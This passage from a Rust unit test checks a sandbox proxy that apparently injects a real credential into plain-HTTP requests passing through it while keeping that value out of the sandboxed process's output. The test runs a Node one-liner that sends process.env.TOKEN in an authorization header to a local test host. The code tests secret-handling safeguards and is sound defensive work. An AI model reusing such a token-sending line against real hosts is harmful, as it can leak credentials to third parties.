/// tunnel, whose first bytes are HTTP, not TLS; it is checked and gets the
/// value all the same.
#[test]
fn plain_http_through_the_capture_gets_the_value_in_too() {
    let ws = Workspace::new();
    let (port, seen) = plain_upstream();
    let p = audited(&ws, &policy_text(port, None, FROM_ENV));
    let node = format!(
        "fetch('http://api.test:{port}/n', {{headers: {{authorization: 'token ' + process.env.TOKEN}}}}).then(r => r.text()).then(t => console.log(t), e => {{ console.log('ERROR', e, e.cause); process.exit(1) }})"
    );
    let (out, _) = exec_ok(&p, &["node", "-e", &node]);
    let got = seen.lock().unwrap().join("\n");
    assert!(
        got.contains(&format!("token {VALUE}")),
        "{got}\n{}",
        text(&out)
    );
    assert!(
        text(&out).contains("you sent: token ghp_"),
        "{}",
        text(&out)
    );
    assert!(!text(&out).contains(VALUE), "{}", text(&out));
    assert!(audit(&ws).contains("\"opened\":\"http\""), "{}", audit(&ws));
}
